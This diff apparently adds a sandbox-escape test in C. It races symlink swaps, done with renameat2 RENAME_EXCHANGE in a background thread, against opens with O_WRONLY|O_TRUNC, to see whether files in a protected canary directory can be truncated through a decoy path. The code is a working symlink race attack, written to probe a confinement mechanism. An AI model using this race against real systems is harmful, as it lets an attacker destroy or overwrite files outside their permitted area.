@@ -1,0 +1,65 @@
+// attack: race: a thread swaps symlinks (dir link and final-component link) between decoy and canary while opening through them with O_WRONLY|O_TRUNC
+// Two shapes: open("race-l/a") where race-l flips between a decoy directory and the canary directory,
+// and open("race-f") where race-f itself flips between a decoy file and a canary file (the kernel
+// follows a final symlink on open, unlike unlink).
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <time.h>
+#include <unistd.h>
+
+#ifndef RENAME_EXCHANGE
+#define RENAME_EXCHANGE 2
+#endif
+
+static atomic_int stop;
+static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
+
+static void *flipper(void *arg) {
+    (void)arg;
+    while (!atomic_load(&stop)) {
+        syscall(SYS_renameat2, AT_FDCWD, "race-l", AT_FDCWD, "race-l2", RENAME_EXCHANGE);
+        syscall(SYS_renameat2, AT_FDCWD, "race-f", AT_FDCWD, "race-f2", RENAME_EXCHANGE);
+    }
+    return NULL;
+}
+
+static long sizeof_file(const char *p) { struct stat st; return stat(p, &st) == 0 ? (long)st.st_size : -1; }
+
+int main(void) {
+    const char *canary = getenv("CANARY");
+    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
+    char ca[4096], cb[4096];
+    snprintf(ca, sizeof ca, "%s/a", canary);
+    snprintf(cb, sizeof cb, "%s/b", canary);
+    mkdir("race-decoy", 0755);
+    close(open("race-decoy/a", O_WRONLY | O_CREAT, 0644));
+    close(open("race-decoy-file", O_WRONLY | O_CREAT, 0644));
+    unlink("race-l"); unlink("race-l2"); unlink("race-f"); unlink("race-f2");
+    printf("symlinks: race-l -> race-decoy %d, race-l2 -> canary %d, race-f -> race-decoy-file %d, race-f2 -> %s %d\n",
+           symlink("race-decoy", "race-l"), symlink(canary, "race-l2"), symlink("race-decoy-file", "race-f"), cb,
+           symlink(cb, "race-f2"));
+    pthread_t t;
+    pthread_create(&t, NULL, flipper, NULL);
+    long tries = 0, ok = 0, counts[256] = {0};
+    double deadline = now() + 4.0;
+    while (now() < deadline && (sizeof_file(ca) > 0 || sizeof_file(cb) > 0)) {
+        const char *p = tries % 2 ? "race-f" : "race-l/a";
+        int fd = open(p, O_WRONLY | O_TRUNC);
+        tries++;
+        if (fd >= 0) { ok++; write(fd, "", 0); close(fd); } else counts[errno & 255]++;
+    }
+    atomic_store(&stop, 1);
+    pthread_join(t, NULL);
+    printf("open(O_WRONLY|O_TRUNC) through flipping symlinks: %ld tries, %ld opened\n", tries, ok);
+    for (int e = 0; e < 256; e++) if (counts[e]) printf("  errno %d (%s): %ld\n", e, strerror(e), counts[e]);
+    printf("%s: %ld bytes\n%s: %ld bytes\n", ca, sizeof_file(ca), cb, sizeof_file(cb));
+    return 0;
+}
